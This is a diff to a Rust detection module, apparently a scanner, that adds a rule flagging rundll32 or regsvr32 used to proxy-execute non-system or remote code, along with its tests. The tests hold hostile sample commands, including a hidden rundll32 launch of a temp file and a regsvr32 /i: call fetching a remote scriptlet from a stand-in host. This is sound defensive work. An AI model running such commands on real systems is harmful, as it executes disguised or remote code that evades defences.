@@ -40,6 +40,12 @@
 //!   of the system, as cryptominers name themselves (ATT&CK's
 //!   "Masquerading").
 //!
+//! - a library run through Windows' own `rundll32` (ATT&CK's "System
+//!   Binary Proxy Execution"): a DLL that is not one of the system's
+//!   (`rundll32 node-gyp.dll,main`, `spawn("rundll32.exe", [lib + ",main"])`),
+//!   the signed host program making the library's code look like the
+//!   system's own; `regsvr32 /i:https://…` running a remote scriptlet.
+//!
 //! Never here: reading those settings (`Get-MpPreference`, `spctl
 //! --status`, `xattr -p com.apple.quarantine`), turning a protection back on
 //! (`-DisableRealtimeMonitoring $false`, `spctl --master-enable`), advice
@@ -102,6 +108,9 @@ pub(super) const ANCHORS: &[&str] = &[
     "hapubws",
     "wdagutilityaccount",
     "mal_data",
+    // A library run through the system's own programs.
+    "rundll32",
+    "regsvr32",
     // Programs named as the kernel's own threads.
     "kworker",
     "kthreadd",
@@ -245,6 +254,16 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             sink.add_match(RuleId::DefenseEvasion, seg.abs(m.range()));
         }
     }
+    if let Some(at) = proxy_execution(s) {
+        let (txt, lines) = (sink.text, sink.lines);
+        let abs = seg.abs(at);
+        sink.add(RuleId::DefenseEvasion, abs.start, || {
+            format!(
+                "a library run through the system's own rundll32 or regsvr32, its code passed off as the system's: {}",
+                text::excerpt(txt, lines, abs.clone())
+            )
+        });
+    }
     if let Some(at) = sandbox_names(s) {
         let (txt, lines) = (sink.text, sink.lines);
         let abs = seg.abs(at);
@@ -265,6 +284,73 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             );
         }
     }
+}
+
+/// `rundll32` given a library that is not the system's (or an entry point
+/// of a library named elsewhere: `[lib + ",main"]`), or `regsvr32 /i:` given
+/// an address: where it sits.
+fn proxy_execution(s: &str) -> Option<std::ops::Range<usize>> {
+    static RUNDLL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)(?-u:\b)rundll32(?:\.exe)?(?-u:\b)").unwrap());
+    static LIBRARY: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i)(?P<dll>[A-Za-z0-9_.-]+)\.(?:dll|ocx|tmp|dat|bin)(?:["']?[ \t]*,[ \t]*#?[A-Za-z_0-9]+)|["'][ \t]*,[ \t]*#?[A-Za-z_][A-Za-z0-9_]*[ \t]*["']|(?P<plain>[A-Za-z0-9_.-]+)\.(?:dll|ocx)(?-u:\b)"#).unwrap()
+    });
+    static REGSVR_REMOTE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)(?-u:\b)regsvr32(?:\.exe)?[^\n]{0,80}?/i:[ \t]*[\x22']?(?:https?:|\\\\)").unwrap()
+    });
+    // The system's own libraries and control panels, run by rundll32 in
+    // ordinary scripts (`url.dll,FileProtocolHandler`, `user32.dll,LockWorkStation`).
+    const SYSTEM: &[&str] = &[
+        "url",
+        "shell32",
+        "user32",
+        "advapi32",
+        "kernel32",
+        "printui",
+        "keymgr",
+        "powrprof",
+        "dfshim",
+        "shdocvw",
+        "ieframe",
+        "comsvcs",
+        "setupapi",
+        "syssetup",
+        "davclnt",
+        "mshtml",
+        "shimgvw",
+        "photoviewer",
+        "display",
+        "hotplug",
+        "netplwiz",
+        "newdev",
+        "sysdm",
+        "inetcpl",
+        "desk",
+        "appwiz",
+        "ncpa",
+        "timedate",
+        "main",
+        "mmsys",
+        "intl",
+        "shwebsvc",
+        "themecpl",
+        "wininet",
+        "msrating",
+        "van",
+    ];
+    if let Some(m) = REGSVR_REMOTE.find(s) {
+        return Some(m.range());
+    }
+    for m in RUNDLL.find_iter(s) {
+        let end = s[m.end()..].find('\n').map_or(s.len(), |i| m.end() + i);
+        let rest = &s[m.end()..end.min(m.end() + 200)];
+        let Some(c) = LIBRARY.captures(rest) else { continue };
+        let name = c.name("dll").or(c.name("plain")).map(|n| n.as_str().to_ascii_lowercase());
+        let system = name.as_deref().is_some_and(|n| SYSTEM.contains(&n.rsplit(['\\', '/']).next().unwrap_or(n)));
+        if !system && !rest.to_ascii_lowercase().contains("system32\\") {
+            return Some(m.start()..m.end() + c.get(0).map_or(0, |x| x.end()));
+        }
+    }
+    None
 }
 
 /// A list, in code, of the host and user names of malware-analysis
@@ -393,6 +479,27 @@ mod tests {
             "grep sshd /var/log/auth.log | tail",
             "cat /etc/ld.so.preload",
             "  file(READ /etc/ld.so.preload _pre OFFSET 0 LIMIT 4096)",
+        ] {
+            assert!(found(t).is_empty(), "{t}: {:?}", found(t));
+        }
+    }
+
+    #[test]
+    fn a_library_of_the_skills_run_through_rundll32_is_found() {
+        for t in [
+            "rundll32.exe node-gyp.dll,main",
+            "  const child = spawn(path.join(sys, \"System32\", \"rundll32.exe\"), [lib + \",main\"], {",
+            "Start-Process rundll32 -ArgumentList \"$env:TEMP\\\\upd.tmp,#1\" -WindowStyle Hidden",
+            "regsvr32 /s /n /u /i:https://h.invalid/s.sct scrobj.dll",
+        ] {
+            assert!(!found(t).is_empty(), "{t}");
+        }
+        for t in [
+            "rundll32 url.dll,FileProtocolHandler https://example.com",
+            "rundll32.exe user32.dll,LockWorkStation",
+            "rundll32 shell32.dll,Control_RunDLL desk.cpl",
+            "Malware often abuses rundll32 to run its DLL.",
+            "regsvr32 /s MyControl.ocx",
         ] {
             assert!(found(t).is_empty(), "{t}: {:?}", found(t));
         }
